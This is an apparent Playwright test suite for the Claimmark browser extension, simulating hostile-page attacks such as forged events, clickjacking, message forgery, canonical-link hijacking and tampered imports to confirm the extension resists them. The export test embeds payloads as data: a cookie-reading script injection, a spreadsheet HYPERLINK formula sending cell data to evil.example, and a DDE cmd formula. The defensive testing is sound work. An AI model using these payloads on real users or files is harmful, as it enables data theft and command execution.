import Papa from "papaparse";
import type { Page } from "playwright-core";
import { describe, expect, it } from "vitest";
import { BACKGROUND_LIMITS } from "../../lib/guard/limits";
import { storedAnnotations, storedPages } from "../../scripts/browser/extension-db";
import { pageState, waitForPaint, waitForPass } from "../../scripts/browser/page-state";
import {
  ARTICLE_HTML,
  cardIn,
  clickSelectionBar,
  download,
  highlightPoint,
  noArticleReport,
  openCardOf,
  pageNotice,
  painted,
  previewIn,
  selectByDrag,
  setCardOpacity,
  useHarness,
  whenArmed,
} from "./harness";
import { giveReaderWork, inContentScriptWorld, pageSees, recordWindowMessages } from "./hostile-tools";

/**
 * Every web page is hostile. Each test here is one attack a page can make on the reader, tried in
 * Chromium with the built extension: it fails against Claimmark as it was before the reader's work
 * moved out of the page (see the issue), and passes only when the page learns and changes nothing.
 */

// Made-up hosts on 127.0.0.1, for attacks between sites (github.io is a public suffix of its own).
const harness = useHarness(["--host-resolver-rules=MAP *.github.io 127.0.0.1"]);
const MILITANTS = "about 6,500 militants";

/** The reader's secrets, none of which may ever be readable by a page. */
const SECRET = {
  note: "Tip from a ministry insider, do not publish",
  tag: "insider-lead",
  sourceUrl: "https://leaks.example/insider-memo",
  sourceTitle: "Insider memo of March",
};

/** The address of `path` on a made-up host (`victim.github.io`) served by the test server. */
function at(host: string, path: string): string {
  return `http://${host}:${new URL(harness.server.origin).port}${path}`;
}

/** Opens `url` (serving `html` at its path first) in a new tab, with `prepare` run on the page before it loads; waits for the pass. */
async function visit(url: string, html = ARTICLE_HTML, prepare?: (page: Page) => Promise<void>) {
  harness.server.override(new URL(url).pathname, html);
  const page = await harness.browser.context.newPage();
  await prepare?.(page);
  await page.goto(url);
  const tabId = await harness.browser.tabIdOf(page);
  const state = await waitForPass(harness.browser.worker, tabId, 60_000);
  return { page, tabId, state };
}

/** The stored annotations of one page. */
const annotationsOf = async (key: string) =>
  (await storedAnnotations(harness.browser.worker)).filter((annotation) => annotation.pageKey === key);

describe("a hostile page", () => {
  it("cannot open a card or the selection bar with scripted clicks, pointer moves, keys or selections", async () => {
    const url = `${harness.server.origin}/hostile-scripted.html`;
    const { page, tabId } = await visit(url);
    const point = await highlightPoint(page, MILITANTS, "figure");
    expect(point).not.toBeNull();
    await page.evaluate(
      ({ x, y }) => {
        const target = document.elementFromPoint(x, y) as Element;
        for (const type of ["mousemove", "mousedown", "mouseup", "click"])
          target.dispatchEvent(new MouseEvent(type, { bubbles: true, clientX: x, clientY: y, view: window }));
        document.dispatchEvent(
          new KeyboardEvent("keydown", { key: "ArrowDown", altKey: true, shiftKey: true, bubbles: true }),
        );
        // A passage the page chose, "selected" by script and "released" with made-up events.
        const paragraph = document.querySelectorAll("p")[2] as HTMLElement;
        const range = document.createRange();
        range.selectNodeContents(paragraph);
        document.getSelection()?.removeAllRanges();
        document.getSelection()?.addRange(range);
        document.dispatchEvent(new MouseEvent("mouseup", { bubbles: true }));
        document.dispatchEvent(new KeyboardEvent("keyup", { key: "Shift", shiftKey: true, bubbles: true }));
      },
      point as { x: number; y: number },
    );
    // Longer than the pointer's rest (700 ms) and the bar's wait (200 ms): nothing came.
    await page.waitForTimeout(1000);
    expect(await page.locator('iframe[data-claimmark="card"]').count()).toBe(0);
    expect(await page.evaluate(() => document.querySelector("claimmark-toolbar"))).toBeNull();

    // The keyboard command and the context menu act on the reader's own selection only.
    await harness.browser.worker.evaluate(
      (id) => chrome.tabs.sendMessage(id, { type: "selection/annotate", kind: "claim" }),
      tabId,
    );
    await expect.poll(() => pageNotice(page)).toContain("select yourself");
    expect((await annotationsOf(url)).filter((a) => a.origin === "user")).toEqual([]);
    await page.close();
  });

  it("reads none of the reader's notes, tags, verdicts, sources or other sites, even with the card open", async () => {
    // Another site the reader annotated: the card's "same figure elsewhere" lists it.
    const other = at("other-outlet.github.io", "/border.html");
    const { page: otherPage } = await visit(other, ARTICLE_HTML.replace(MILITANTS, "about 6,000 militants"));
    await otherPage.close();
    await giveReaderWork(harness.browser.worker, other, "about 6,000 militants", {
      note: "Other outlet's figure, checked by phone",
      source: { url: "https://other-secret.example/ledger", title: "Ledger" },
    });

    const url = `${harness.server.origin}/hostile-read.html`;
    const { page } = await visit(url, ARTICLE_HTML, recordWindowMessages);
    await giveReaderWork(harness.browser.worker, url, MILITANTS, {
      status: "disputed",
      tags: [SECRET.tag],
      note: SECRET.note,
      source: { url: SECRET.sourceUrl, title: SECRET.sourceTitle },
    });
    const card = await openCardOf(page, MILITANTS, "figure");
    // The card shows the reader everything...
    await expect.poll(() => card.getByTestId("card-note").textContent()).toContain(SECRET.note);
    await expect.poll(() => card.getByTestId("related-item").filter({ hasText: "6,000" }).count()).toBe(1);
    expect(await card.getByTestId("card-status").inputValue()).toBe("disputed");
    const sizeWithWork = await page.evaluate(() => {
      const frame = document.querySelector('iframe[data-claimmark="card"]') as HTMLElement;
      return [frame.offsetWidth, frame.offsetHeight];
    });

    // ...and the page, trying every door it has, sees none of it.
    await page.evaluate(() => {
      // Guessing at the frame's messages, and its storage, gets it nothing either.
      const frame = document.querySelector('iframe[data-claimmark="card"]') as HTMLIFrameElement;
      frame.contentWindow?.postMessage({ claimmark: "token", token: crypto.randomUUID() }, "*");
    });
    const seen = await pageSees(page);
    for (const secret of [
      SECRET.note,
      SECRET.tag,
      SECRET.sourceUrl,
      SECRET.sourceTitle,
      "disputed",
      "other-outlet.github.io",
      "Other outlet's figure",
      "other-secret.example",
    ])
      expect(seen).not.toContain(secret);

    // The frame's size says nothing of what it holds: a card with no work on it has the same.
    await page.keyboard.press("Escape");
    await openCardOf(page, "up to 4,000", "figure");
    expect(
      await page.evaluate(() => {
        const frame = document.querySelector('iframe[data-claimmark="card"]') as HTMLElement;
        return [frame.offsetWidth, frame.offsetHeight];
      }),
    ).toEqual(sizeWithWork);
    await page.close();
  });

  it("hears no key the reader types in the card, and cannot change what is typed", async () => {
    const url = `${harness.server.origin}/hostile-keys.html`;
    const { page } = await visit(url);
    await page.evaluate(() => {
      const log: string[] = [];
      (window as unknown as { __keys: string[] }).__keys = log;
      for (const target of [window, document])
        for (const type of ["keydown", "keypress", "keyup", "input", "beforeinput", "compositionupdate"])
          target.addEventListener(type, (event) => log.push(`${type}:${(event as KeyboardEvent).key ?? ""}`), true);
    });
    const card = await openCardOf(page, MILITANTS, "figure");
    await card.getByTestId("card-add-note").click();
    await card.getByTestId("note-editor").pressSequentially("Typed in confidence 42");
    await card.getByTestId("note-editor").blur();
    await expect
      .poll(async () => (await annotationsOf(url)).find((a) => a.exact === MILITANTS)?.note)
      .toBe("Typed in confidence 42");
    expect(await page.evaluate(() => (window as unknown as { __keys: string[] }).__keys)).toEqual([]);
    expect(await pageSees(page)).not.toContain("Typed in confidence");
    await page.close();
  });

  it("cannot make the reader click the card unseen: transparent, covered or moved under the pointer, it refuses", async () => {
    const url = `${harness.server.origin}/hostile-clickjack.html`;
    const { page } = await visit(url);
    const card = await openCardOf(page, "up to 4,000", "figure");
    const dismiss = card.getByTestId("card-dismiss");
    const box = async () => {
      const b = await dismiss.boundingBox();
      if (!b) throw new Error("no dismiss button");
      return { x: b.x + b.width / 2, y: b.y + b.height / 2 };
    };
    const dismissed = async () => (await annotationsOf(url)).find((a) => a.exact === "up to 4,000")?.dismissed;
    // The card says when it ignored a click; the count tells this refusal from the one before.
    const notice = card.getByTestId("card-refused");
    const refusalsShown = async () =>
      (await notice.count()) === 0 ? 0 : Number((await notice.getAttribute("data-count", { timeout: 1000 })) ?? 0);
    let refusals = 0;
    const refused = async () => {
      await expect.poll(refusalsShown).toBeGreaterThan(refusals);
      refusals = await refusalsShown();
    };
    const refusedThenRestore = async (restore: () => Promise<void>) => {
      await refused();
      await page.waitForTimeout(300);
      expect(await dismissed()).toBe(false);
      await restore();
      await whenArmed(card);
    };

    // Made nearly transparent, over a decoy the reader means to click.
    let target = await box();
    await page.evaluate(setCardOpacity, "0.02");
    await page.mouse.click(target.x, target.y);
    await refusedThenRestore(() => page.evaluate(setCardOpacity, "1"));
    // The "click ignored" notice moves no button: its coming and going would shift them under the pointer.
    expect(await notice.count()).toBe(1);
    expect(await box()).toEqual(target);

    // Covered by an opaque decoy that lets clicks through.
    await page.evaluate(() => {
      const decoy = document.createElement("div");
      decoy.id = "decoy";
      decoy.textContent = "Claim your prize";
      decoy.style.cssText =
        "position:fixed;inset:0;background:#fff;z-index:2147483647;pointer-events:none;font:40px sans-serif";
      document.documentElement.append(decoy);
    });
    await page.waitForTimeout(200);
    await page.mouse.click(target.x, target.y);
    await refusedThenRestore(() => page.evaluate(() => document.getElementById("decoy")?.remove()));

    // Moved under the pointer as it arrives, so that the next click lands on "Not a figure".
    target = await box();
    const frameBox = await page.evaluate(() => {
      const rect = (document.querySelector('iframe[data-claimmark="card"]') as HTMLElement).getBoundingClientRect();
      return { left: rect.left, top: rect.top };
    });
    const prize = { x: 1000, y: 700 };
    await page.evaluate(
      ({ offset }) => {
        document.addEventListener(
          "mousemove",
          (event) => {
            const frame = document.querySelector('iframe[data-claimmark="card"]') as HTMLElement;
            frame.style.setProperty("left", `${event.clientX - offset.x}px`, "important");
            frame.style.setProperty("top", `${event.clientY - offset.y}px`, "important");
          },
          { once: true },
        );
      },
      { offset: { x: target.x - frameBox.left, y: target.y - frameBox.top } },
    );
    await page.mouse.move(prize.x, prize.y);
    // Two frames: the browser would draw the moved card by now (well within the card's wait)...
    await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))));
    // ...but it went straight back where Claimmark put it, so the click falls on the page's "prize".
    expect(
      await page.evaluate(() => {
        const rect = (document.querySelector('iframe[data-claimmark="card"]') as HTMLElement).getBoundingClientRect();
        return { left: rect.left, top: rect.top };
      }),
    ).toEqual(frameBox);
    await page.mouse.down();
    await page.mouse.up();
    await page.waitForTimeout(300);
    expect(await dismissed()).toBe(false);

    // Left alone and in view, the same button works.
    await openCardOf(page, "up to 4,000", "figure");
    await dismiss.click();
    await expect.poll(dismissed).toBe(true);
    await page.close();
  });

  it("cannot read a preview, open one with made-up events, nor have a restyled preview take a click", async () => {
    const url = `${harness.server.origin}/hostile-preview.html`;
    const { page } = await visit(url, ARTICLE_HTML, recordWindowMessages);
    // The reader's own words for the speaker, and a verdict: the preview shows both.
    const speaker = "Confidential informant Q";
    await giveReaderWork(harness.browser.worker, url, MILITANTS, { status: "disputed", speaker });
    const point = (await highlightPoint(page, MILITANTS, "figure")) as { x: number; y: number };
    const frame = () => page.locator('iframe[data-claimmark="card"]');

    // Made-up pointer moves and rests on the highlight, longer than a rest (700 ms): no preview.
    await page.evaluate(({ x, y }) => {
      const target = document.elementFromPoint(x, y) as Element;
      for (const type of ["pointerover", "mouseover", "pointermove", "mousemove"])
        target.dispatchEvent(new MouseEvent(type, { bubbles: true, clientX: x, clientY: y, view: window }));
    }, point);
    await page.waitForTimeout(1200);
    expect(await frame().count()).toBe(0);

    // The reader's own rest shows it; the page reads nothing of it.
    await page.mouse.move(5, 5);
    await page.mouse.move(point.x, point.y, { steps: 3 });
    const preview = previewIn(page);
    await expect.poll(() => preview.count()).toBe(1);
    await expect.poll(() => preview.getByTestId("card-preview-main").textContent()).toContain(speaker);
    expect(await preview.getByTestId("card-preview-status").textContent()).toBe("Disputed");
    const seen = await pageSees(page);
    for (const secret of [speaker, "Disputed", "disputed"]) expect(seen).not.toContain(secret);

    // Clicks and messages the page makes do not turn it into the card.
    await page.evaluate(() => {
      const element = document.querySelector('iframe[data-claimmark="card"]') as HTMLIFrameElement;
      for (const type of ["mousedown", "mouseup", "click"])
        element.dispatchEvent(new MouseEvent(type, { bubbles: true, view: window }));
      element.contentWindow?.postMessage({ claimmark: "token", token: crypto.randomUUID() }, "*");
      element.contentWindow?.postMessage({ type: "card/preview", action: "expand" }, "*");
    });
    await page.waitForTimeout(500);
    expect(await preview.count()).toBe(1);
    expect(await cardIn(page).count()).toBe(0);

    // Made nearly transparent, the preview refuses the reader's click...
    await whenArmed(preview);
    const box = (await frame().boundingBox()) as { x: number; y: number; width: number; height: number };
    const centre = { x: box.x + box.width / 2, y: box.y + box.height / 2 };
    await page.mouse.move(centre.x, centre.y, { steps: 3 });
    await page.evaluate(setCardOpacity, "0.02");
    await page.mouse.click(centre.x, centre.y);
    await expect.poll(() => preview.getByTestId("card-refused").count()).toBe(1);
    await page.waitForTimeout(300);
    expect(await cardIn(page).count()).toBe(0);
    // ...and, put back as Claimmark showed it, takes it.
    await whenArmed(preview);
    await page.mouse.click(centre.x, centre.y);
    await expect.poll(() => cardIn(page).count()).toBe(1);
    expect(await cardIn(page).getByTestId("card-speaker").textContent()).toBe(speaker);
    await page.close();
  });

  it("on another github.io site cannot take a page's key with its canonical link", async () => {
    const victim = at("victim.github.io", "/article.html");
    const { page: victimPage } = await visit(victim);
    await victimPage.close();
    await giveReaderWork(harness.browser.worker, victim, MILITANTS, { status: "disputed", note: SECRET.note });
    const before = (await storedPages(harness.browser.worker)).find((p) => p.key === victim);

    const attacker = at("attacker.github.io", "/copy.html");
    const copy = ARTICLE_HTML.replace("<head>", `<head><link rel="canonical" href="${victim}">`);
    expect(copy).not.toBe(ARTICLE_HTML);
    const { page } = await visit(attacker, copy);
    const pages = await storedPages(harness.browser.worker);
    expect(pages.find((p) => p.key === attacker)?.url).toBe(attacker);
    expect(pages.find((p) => p.key === victim)).toEqual(before);
    const victimAnnotation = (await annotationsOf(victim)).find((a) => a.exact === MILITANTS);
    expect([victimAnnotation?.status, victimAnnotation?.note]).toEqual(["disputed", SECRET.note]);

    // On the attacker's copy, the reader's card is the copy's own, empty one.
    const card = await openCardOf(page, MILITANTS, "figure");
    expect(await card.getByTestId("card-status").inputValue()).toBe("unverified");
    expect(await card.getByTestId("card-note").count()).toBe(0);
    await page.close();
  });

  it("learns the kinds of its highlights, never the reader's verdicts", async () => {
    const url = `${harness.server.origin}/hostile-verdicts.html`;
    const { page } = await visit(url);
    await page.close();
    await giveReaderWork(harness.browser.worker, url, MILITANTS, { status: "false" });
    await giveReaderWork(harness.browser.worker, url, "up to 4,000", { status: "supported" });
    const again = await harness.browser.context.newPage();
    await again.goto(url);
    await waitForPaint(harness.browser.worker, await harness.browser.tabIdOf(again));
    const registry = await again.evaluate(() => [...CSS.highlights.keys()]);
    expect(registry.length).toBeGreaterThan(0);
    for (const name of registry) expect(name).toMatch(/^claimmark-(quote|claim|figure|highlight|flash)(-hc)?(-dark)?$/);
    expect(await painted(again, "claimmark-figure")).toContain(MILITANTS);
    await again.close();
  });

  it("cannot switch Claimmark off by replaying WXT's start message, and never learns the extension's id", async () => {
    const url = `${harness.server.origin}/hostile-replay.html`;
    const { page, tabId } = await visit(url, ARTICLE_HTML, recordWindowMessages);
    const id = harness.browser.extensionId;
    expect(await pageSees(page)).not.toContain(id);
    await page.evaluate((extensionId) => {
      const started = `${extensionId}:content:wxt:content-script-started`;
      const detail = { contentScriptName: "content", messageId: "the-page" };
      document.dispatchEvent(new CustomEvent(started, { detail }));
      window.postMessage({ type: started, ...detail }, "*");
      window.dispatchEvent(new Event(`${extensionId}:content:wxt:locationchange`));
      dispatchEvent(new PopStateEvent("popstate"));
    }, id);
    await page.waitForTimeout(2500);
    expect(await painted(page, "claimmark-figure")).toContain(MILITANTS);
    expect(await pageState(harness.browser.worker, tabId)).toMatchObject({ status: "recorded" });
    await openCardOf(page, MILITANTS, "figure");
    await page.close();
  });

  it("far larger than any article is refused before it is hashed or sent", async () => {
    const url = `${harness.server.origin}/hostile-huge.html`;
    const paragraph = `<p>${"The border council met again and said that 4,000 people crossed. ".repeat(1600)}</p>\n`;
    const html = `<!doctype html><html lang="en"><head><title>Huge</title></head><body><article><h1>Huge</h1>${paragraph.repeat(200)}</article></body></html>`;
    expect(html.length).toBeGreaterThan(20_000_000);
    const { page, state } = await visit(url, html);
    expect(state).toMatchObject({ status: "recorded", hasArticle: false, noArticleReason: "too-large" });
    expect((await storedPages(harness.browser.worker)).find((p) => p.key === url)?.noArticleReason).toBe("too-large");
    await page.close();
  });

  it("full of figures stores no more than a page's share of automatic annotations", async () => {
    const url = `${harness.server.origin}/hostile-figures.html`;
    const rows = Array.from(
      { length: 1500 },
      (_, i) =>
        `<p>In ${1900 + (i % 120)}, ${i + 11} people in district ${i} said that ${i + 3}% of ${i + 7},000 homes lost power for ${(i % 9) + 2} days.</p>`,
    ).join("\n");
    const html = `<!doctype html><html lang="en"><head><title>Figures</title></head><body><article><h1>Figures everywhere</h1>${rows}</article></body></html>`;
    const { page, state } = await visit(url, html);
    expect(state.status).toBe("recorded");
    const stored = (await annotationsOf(url)).filter((a) => a.origin === "auto");
    expect(stored.length).toBeGreaterThan(1000);
    expect(stored.length).toBeLessThanOrEqual(BACKGROUND_LIMITS.autoAnnotationsPerPage);
    await page.close();
  });

  it("changing its address in a loop creates no more than a tab's share of page records", async () => {
    const base = at("flood.github.io", "/flood.html");
    const { page } = await visit(base);
    // A new address every 700 ms for 15 s: a pass, and a new page record, each time it is allowed.
    await page.evaluate(() => {
      let i = 0;
      const timer = setInterval(() => {
        history.pushState(null, "", `/flood.html?story=${++i}`);
        if (i >= 22) clearInterval(timer);
      }, 700);
    });
    await page.waitForTimeout(17_000);
    const records = (await storedPages(harness.browser.worker)).filter((p) =>
      p.key.startsWith(at("flood.github.io", "/")),
    );
    expect(records.length).toBeGreaterThan(2);
    expect(records.length).toBeLessThanOrEqual(BACKGROUND_LIMITS.newPagesPerTab);
    await page.close();
  });

  it("acts only on the reader's own selection, through a selection bar it cannot reach or disguise", async () => {
    const url = `${harness.server.origin}/hostile-bar.html`;
    const { page } = await visit(url);
    await selectByDrag(page, "as early as 2023");
    await clickSelectionBar(page, "highlight");
    await expect.poll(async () => (await annotationsOf(url)).filter((a) => a.origin === "user").length).toBe(1);
    await expect.poll(() => cardIn(page).count()).toBe(1);
    await page.keyboard.press("Escape");

    // The bar's inside is out of the page's reach.
    await selectByDrag(page, "eastern Afghanistan");
    await expect.poll(() => page.evaluate(() => document.querySelector("claimmark-toolbar") !== null)).toBe(true);
    expect(
      await page.evaluate(() => (document.querySelector("claimmark-toolbar") as HTMLElement).shadowRoot),
    ).toBeNull();
    // The page swaps in a passage of its own choosing and blows the bar up, invisible, over the screen.
    await page.evaluate(() => {
      const paragraph = document.querySelectorAll("p")[1] as HTMLElement;
      const range = document.createRange();
      range.selectNodeContents(paragraph);
      document.getSelection()?.removeAllRanges();
      document.getSelection()?.addRange(range);
      const host = document.querySelector("claimmark-toolbar") as HTMLElement | null;
      host?.style.setProperty("transform", "scale(60)", "important");
      host?.style.setProperty("opacity", "0.01", "important");
    });
    await page.mouse.click(600, 450);
    await page.waitForTimeout(500);
    expect((await annotationsOf(url)).filter((a) => a.origin === "user").map((a) => a.exact)).toEqual([
      "as early as 2023",
    ]);
    await page.close();
  });

  it("that breaks into the content script's world still cannot store text that is not its article, nor reach other pages' work", async () => {
    const other = `${harness.server.origin}/hostile-other.html`;
    const { page: otherPage } = await visit(other);
    await otherPage.close();
    const otherId = await giveReaderWork(harness.browser.worker, other, MILITANTS, {
      status: "false",
      note: SECRET.note,
    });

    const url = `${harness.server.origin}/hostile-forged.html`;
    const { page } = await visit(url);
    const send = (message: unknown) =>
      inContentScriptWorld<{ ok: boolean; error?: string; token?: string; item?: unknown }>(
        page,
        harness.browser.extensionId,
        `chrome.runtime.sendMessage(${JSON.stringify(message)})`,
      );
    const pageRef = { url, canonicalUrl: null };
    // A hand-made annotation whose text is not the article's.
    const forged = await send({
      type: "annotation/create",
      page: pageRef,
      kind: "claim",
      passage: { exact: "The CSTO admits defeat", prefix: "", suffix: "", start: 0, end: 22 },
      text: "The CSTO admits defeat. ".repeat(10),
    });
    expect(forged.ok).toBe(false);
    // Another page's annotation: no card, no paint, no edit.
    expect((await send({ type: "card/open", page: pageRef, id: otherId, focus: false, preview: false })).ok).toBe(
      false,
    );
    expect(await send({ type: "annotation/paint", page: pageRef, id: otherId })).toMatchObject({ ok: false });
    const edit = await send({ type: "annotation/update", page: pageRef, id: otherId, patch: { status: "supported" } });
    expect(edit.ok).toBe(false);
    expect((await annotationsOf(url)).filter((a) => a.origin === "user")).toEqual([]);
    const stored = (await annotationsOf(other)).find((a) => a.id === otherId);
    expect([stored?.status, stored?.note]).toEqual(["false", SECRET.note]);

    // Strings it reports are stored with NUL and lone surrogates replaced.
    const title = "Title\u0000 with \ud800 a lone half";
    const report = noArticleReport({ title });
    const forgedPage = `${harness.server.origin}/hostile-forged-page.html`;
    expect((await send({ type: "page/extracted", url: forgedPage, report, article: null })).ok).toBe(true);
    // The browser vouches for the tab's origin only; the path is the page's to name, as it could navigate there.
    const recorded = (await storedPages(harness.browser.worker)).find((p) => p.key === forgedPage);
    expect(recorded?.title).toBe("Title\ufffd with \ufffd a lone half");
    await page.close();
  });

  it("cannot overwrite the reader's work through a shared import file dated in the future", async () => {
    const url = `${harness.server.origin}/hostile-import.html`;
    const { page } = await visit(url);
    await giveReaderWork(harness.browser.worker, url, MILITANTS, { status: "disputed", note: SECRET.note });
    const popup = await harness.browser.openPopup(page);
    await popup.getByTestId("transfer-toggle").click();
    const exported = await download(popup, "export-w3c");
    await popup.close();
    // A colleague's "export": the public article's ids, a verdict, a note and an address of the attacker's, dated 2099.
    const collection = JSON.parse(exported.text);
    for (const item of collection.first.items) {
      if (!item.target.selector.some((s: { exact?: string }) => s.exact === MILITANTS)) continue;
      item.modified = "2099-01-01T00:00:00.000Z";
      item.target.source = "https://attacker.example/planted";
      item.body = [
        { type: "TextualBody", purpose: "assessing", value: "supported" },
        { type: "TextualBody", purpose: "commenting", value: "Planted note", format: "text/plain" },
      ];
    }
    const library = await harness.browser.context.newPage();
    await library.goto(`chrome-extension://${harness.browser.extensionId}/options.html`);
    await library.getByTestId("transfer-toggle").click();
    await library.getByTestId("import-file").setInputFiles({
      name: "shared.jsonld",
      mimeType: "application/ld+json",
      buffer: Buffer.from(JSON.stringify(collection)),
    });
    const conflicts = library.getByTestId("import-conflict");
    await expect.poll(() => conflicts.count()).toBe(2);
    const listed = (await conflicts.allTextContents()).join("\n");
    expect(listed).toContain("disputed");
    expect(listed).toContain("supported");
    expect(listed).toContain(SECRET.note);
    expect(listed).toContain("Planted note");
    const stored = async () => (await annotationsOf(url)).find((a) => a.exact === MILITANTS);
    expect([(await stored())?.status, (await stored())?.note]).toEqual(["disputed", SECRET.note]);
    expect((await storedPages(harness.browser.worker)).find((p) => p.key === url)?.url).toBe(url);

    // The reader may take the file's verdict, and only what they take changes.
    await conflicts.filter({ hasText: "supported" }).getByTestId("take-imported").click();
    await expect.poll(async () => (await stored())?.status).toBe("supported");
    expect((await stored())?.note).toBe(SECRET.note);
    await library.close();
    await page.close();
  });

  it("cannot make an export run script or break when pasted, nor a spreadsheet run its text", async () => {
    const url = `${harness.server.origin}/hostile-export.html`;
    const hostileQuotes = [
      // Text, as the page shows it: the entities are the page's way of writing "</script><script>…".
      "<p>“&lt;/script&gt;&lt;script&gt;alert(document.cookie)&lt;/script&gt; is what we found,” said Omar Lind of the council.</p>",
      '<p>“=HYPERLINK("http://evil.example/?"&A1,"Open") is the answer,” said Jane Okafor, the minister.</p>',
      "<p>“\u00a0=cmd|' /C calc'!A0 was typed,” said Piotr Lewandowski, the clerk.</p>",
      "<p id=lone>Placeholder</p>",
    ].join("");
    const html = ARTICLE_HTML.replace("<p>It is worth noting", `${hostileQuotes}<p>It is worth noting`).replace(
      "</body>",
      // A lone surrogate only a script can write into the page.
      `<script>document.getElementById("lone").textContent = "\u201cThe figure \\ud800 was wrong,\u201d said Li Wei, the auditor.";</script></body>`,
    );
    const { page } = await visit(url, html);
    const quotes = (await annotationsOf(url)).filter((a) => a.kind === "quote");
    const scripted = quotes.find((a) => a.exact.includes("</script>"));
    expect(scripted).toBeDefined();
    expect(quotes.map((a) => a.exact)).toEqual(
      expect.arrayContaining([expect.stringMatching(/^=HYPERLINK/u), expect.stringMatching(/^\u00a0?=cmd/u)]),
    );
    // The page's lone surrogate reached nothing stored: it reads as U+FFFD.
    expect(quotes.some((a) => a.exact.includes("The figure \ufffd was wrong"))).toBe(true);
    for (const quote of quotes)
      await giveReaderWork(harness.browser.worker, url, quote.exact, { status: "false", note: "</script><b>x</b>" });
    const popup = await harness.browser.openPopup(page);
    await popup.getByTestId("transfer-toggle").click();
    for (const testId of ["export-w3c", "export-claimreview"]) {
      const { text } = await download(popup, testId);
      expect(text.toLowerCase()).not.toContain("</script");
      expect(text).not.toMatch(/[<>\u2028\u2029]/u);
      expect(JSON.stringify(JSON.parse(text))).toContain("</script>");
    }
    const { text: csv } = await download(popup, "export-csv");
    const cells = (Papa.parse(csv.replace(/^\uFEFF/u, ""), { header: false }).data as string[][]).flat();
    for (const cell of cells) {
      const start = cell.replace(/^[\s\u00a0\u3000"'\u201c\u201d\u2018\u2019]+/u, "");
      expect(/^[=+\-@\uff1d\uff0b\uff0d\uff20]/u.test(start) && !cell.startsWith("'"), cell).toBe(false);
    }
    await popup.close();
    await page.close();
  });
});
